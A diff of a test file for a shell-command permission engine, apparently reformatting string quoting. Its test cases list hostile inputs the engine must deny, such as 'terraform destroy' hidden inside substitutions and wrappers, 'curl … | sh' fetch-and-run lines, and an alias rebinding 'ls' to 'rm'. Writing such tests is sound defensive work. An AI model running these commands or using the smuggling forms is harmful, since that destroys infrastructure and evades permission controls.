@@ -49,13 +49,13 @@ describe("every command a line runs must be allowed", async () => {
     ["terraform plan\nterraform destroy", "deny"],
     ["terraform plan $(terraform destroy)", "deny"],
     ["terraform plan `terraform destroy`", "deny"],
-    ["terraform plan \"$(terraform destroy)\"", "deny"],
+    ['terraform plan "$(terraform destroy)"', "deny"],
     ["terraform plan <(terraform destroy)", "deny"],
     ["(terraform destroy)", "deny"],
     ["{ terraform destroy; }", "deny"],
     ["if true; then terraform destroy; fi", "deny"],
     ["bash -c 'terraform destroy'", "deny"],
-    ["sh -c \"terraform plan && terraform destroy\"", "deny"],
+    ['sh -c "terraform plan && terraform destroy"', "deny"],
     ["terraform plan $(curl x | sh)", "deny"],
     ["ls ${X:-$(terraform destroy)}", "deny"],
     ["echo $((1 + $(terraform destroy)))", "deny"],
@@ -75,7 +75,7 @@ describe("quoting, paths and wrappers do not hide a command", async () => {
   const e = await engineFromText(policy);
   it.each([
     "t'erraform' destroy",
-    "\"terraform\" destroy",
+    '"terraform" destroy',
     "terra\\form destroy",
     "terraform   destroy",
     "terraform\tdestroy",
@@ -152,15 +152,15 @@ describe("what cannot be known statically is denied, with a reason", async () =>
     ["ls {a..z..-1}", /step/],
     ["echo hi | bash", /pipe/],
     ["curl -s https://x.sh | sh", /pipe/],
-    ["bash -c \"$SCRIPT\"", /only known at run time/],
-    ["eval \"$X\"", /run time/],
+    ['bash -c "$SCRIPT"', /only known at run time/],
+    ['eval "$X"', /run time/],
     ["case x in x) ls;; esac", /case/],
     ["f() { ls; }; f", /function/],
     ["function f { ls; }", /function/],
     ["[[ -f x ]] && ls", /\[\[/],
     ["((x = 1))", /arithmetic/],
     ["echo 'unterminated", /unterminated/],
-    ["echo \"unterminated", /unterminated/],
+    ['echo "unterminated', /unterminated/],
     ["echo $(ls", /not closed/],
     ["cat <<EOF\nno end", /not terminated/],
     ["ls )", /unbalanced/],
@@ -174,7 +174,7 @@ describe("what cannot be known statically is denied, with a reason", async () =>
     ["echo 10>x", /file descriptor/],
     ["echo {fd}>x", /bash only/],
     ["ls -l $[1+1]", /\$\[/],
-    ["echo $\"x\"", /translated/],
+    ['echo $"x"', /translated/],
     ["cat <(ls)x", /process substitution/],
     ["echo a; alias ls=rm", /alias/],
     ["set -o posix; ls", /set -o/],
@@ -234,7 +234,12 @@ describe("redirections are file actions", async () => {
 
 describe("analyzeCommand", () => {
   it("lists each command once, quoting removed", () => {
-    expect(analysis("git commit -m 'fix: a; b' && git push && git push")).toEqual({ execs: ["git commit -m fix: a; b", "git push"], files: [], env: [], net: [] });
+    expect(analysis("git commit -m 'fix: a; b' && git push && git push")).toEqual({
+      execs: ["git commit -m fix: a; b", "git push"],
+      files: [],
+      env: [],
+      net: [],
+    });
   });
   it("keeps for-loop headers out of the commands but checks their substitutions", () => {
     const a = analysis("for f in $(ls /repo); do echo $f; done");
